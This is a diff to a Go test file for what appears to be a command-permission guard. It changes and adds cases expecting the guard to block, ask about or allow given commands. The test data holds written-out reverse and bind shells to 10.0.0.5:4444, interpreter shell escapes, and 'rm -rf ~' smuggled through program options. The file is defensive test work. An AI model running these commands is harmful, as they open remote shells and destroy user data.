@@ -158,7 +158,7 @@ func TestUnknownProgramFallbacks(t *testing.T) {
 		{"zzcat -e /bin/sh 10.0.0.5 4444", dsl.Ask, dsl.Ask},
 		{"zzcat --exec=/bin/sh 10.0.0.5 4444", dsl.Ask, dsl.Ask},
 		{"zzcat --sh-exec 'sh -i' 10.0.0.5 4444", dsl.Ask, dsl.Ask},
-		{"qjs --std -e 'os.exec([\"sh\",\"-c\",\"sh -i >& /dev/tcp/10.0.0.5/4444 0>&1\"])'", dsl.Ask, dsl.Ask},                // was allowed
+		{"qjs --std -e 'os.exec([\"sh\",\"-c\",\"sh -i >& /dev/tcp/10.0.0.5/4444 0>&1\"])'", dsl.Block, dsl.Block},            // was allowed
 		{"micropython -c 'import os; os.system(\"sh -i >& /dev/tcp/10.0.0.5/4444 0>&1\")'", dsl.Block, dsl.Block},             // was allowed
 		{"jython -c 'import os; os.system(\"nc -e /bin/sh 10.0.0.5 4444\")'", dsl.Block, dsl.Block},                           // was allowed
 		{"rhino -e 'runCommand(\"sh\",\"-c\",\"sh -i >& /dev/tcp/10.0.0.5/4444 0>&1\")'", dsl.Block, dsl.Block},               // was allowed
@@ -169,7 +169,7 @@ func TestUnknownProgramFallbacks(t *testing.T) {
 		// bind shells
 		{"zzcat -l -p 4444 -e /bin/sh", dsl.Ask, dsl.Ask},
 		{"zzcat -lvp 4444 --exec=/bin/bash", dsl.Ask, dsl.Ask},
-		{"qjs --std -e 'os.exec([\"nc\",\"-l\",\"-p\",\"4444\",\"-e\",\"/bin/sh\"])'", dsl.Ask, dsl.Ask},
+		{"qjs --std -e 'os.exec([\"nc\",\"-l\",\"-p\",\"4444\",\"-e\",\"/bin/sh\"])'", dsl.Block, dsl.Block},
 		{"micropython -c 'import os; os.system(\"nc -lp 4444 -e /bin/sh\")'", dsl.Block, dsl.Block}, // was allowed
 		// commands run through options, escapes and inline code
 		{"watchexec -e go -- rm -rf ~", dsl.Ask, dsl.Ask},
@@ -374,7 +374,49 @@ func TestUnknownProgramFallbacks(t *testing.T) {
 		{"cp /usr/bin/env ./e; ./e /bin/sh -p", dsl.Ask, dsl.Ask},
 		{"env.real /bin/sh", dsl.Ask, dsl.Ask},
 		{"/usr/bin/env.real /bin/sh", dsl.Ask, dsl.Ask},
+		// more hosts of code and command languages
+		{"zzrun -c '!sh'", dsl.Ask, dsl.Ask},
+		{"zzrun --cmd=':!rm -rf ~'", dsl.Block, dsl.Block},
+		{"vim.tiny -c ':!sh'", dsl.Ask, dsl.Ask},
+		{"zzcli -x '!ls'", dsl.Ask, dsl.Ask},
+		{"ipython -c 'import os; os.system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"pypy3 -c 'import os; os.system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"graalpy -c 'import os; os.system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"rustpython -c 'import os; os.system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"jruby -e 'system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"mruby -e 'system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"truffleruby -e 'exec \"/bin/sh\"'", dsl.Ask, dsl.Ask},
+		{"goawk 'BEGIN{system(\"/bin/sh\")}'", dsl.Ask, dsl.Ask},
+		{"original-awk 'BEGIN{system(\"sh\")}'", dsl.Ask, dsl.Ask},
+		{"d8 -e 'os.system(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"hhvm --php -r 'system(\"sh\");'", dsl.Ask, dsl.Ask},
+		{"awesome-client 'os.execute(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"luajit -e 'os.execute(\"sh\")'", dsl.Ask, dsl.Ask},
+		{"zzlua -e 'os.execute(\"rm -rf ~\")'", dsl.Block, dsl.Block},
+		{"cmus-remote -C 'shell rm -rf ~'", dsl.Block, dsl.Block},
+		{"hyprctl dispatch exec sh", dsl.Ask, dsl.Ask},
+		{"hyprctl dispatch exec 'rm -rf ~'", dsl.Block, dsl.Block},
+		{"imv -c 'exec rm -rf ~'", dsl.Block, dsl.Block},
+		{"mycli -e 'system rm -rf ~'", dsl.Block, dsl.Block},
+		{"mycli <<< 'system sh'", dsl.Ask, dsl.Ask},
+		{"gallery-dl --exec 'rm -rf ~' URL", dsl.Block, dsl.Block},
+		{"streamlink --player 'sh -c \"rm -rf ~\"' URL best", dsl.Block, dsl.Block},
+		{"vile -c '!sh'", dsl.Ask, dsl.Ask},
+		{"php8.2 -r 'system(\"sh\");'", dsl.Ask, dsl.Ask},
+		{"python3.12 -c 'import pty; pty.spawn(\"/bin/sh\")'", dsl.Ask, dsl.Ask},
+		{"zzpy -c 'import pty; pty.spawn(\"/bin/sh\")'", dsl.Ask, dsl.Ask},
+		{"zzpy -c 'import os; os.execl(\"/bin/sh\",\"sh\")'", dsl.Ask, dsl.Ask},
+		{"zzjs -e 'require(\"child_process\").execSync(\"rm -rf ~\")'", dsl.Block, dsl.Block},
+		{"zzjs -e 'require(\"child_process\").spawn(\"sh\",[],{stdio:\"inherit\"})'", dsl.Ask, dsl.Ask},
+		{"zzrb -e 'exec \"/bin/sh\"'", dsl.Ask, dsl.Ask},
+		{"zztcl -c 'exec rm -rf ~'", dsl.Block, dsl.Block},
+		{"zzperl -e 'exec \"/bin/sh\";'", dsl.Ask, dsl.Ask},
 		// their everyday neighbours
+		{"zzchat send '!ping'", dsl.Allow, dsl.Allow},
+		{"zzchat --message '!ls -la'", dsl.Allow, dsl.Allow},
+		{"zzcli --body 'use system(\"rm -rf ~\") never'", dsl.Allow, dsl.Allow},
+		{"zzbot -m '!date'", dsl.Allow, dsl.Allow},
+		{"zzcli --filter '!node_modules'", dsl.Allow, dsl.Allow},
 		{"aria2c -x4 https://example.com/file.iso", dsl.Allow, dsl.Allow},
 		{"aria2c -d downloads -o file.iso https://example.com/file.iso", dsl.Allow, dsl.Allow},
 		{"axel -n 4 -o dist/file.iso https://example.com/file.iso", dsl.Allow, dsl.Allow},
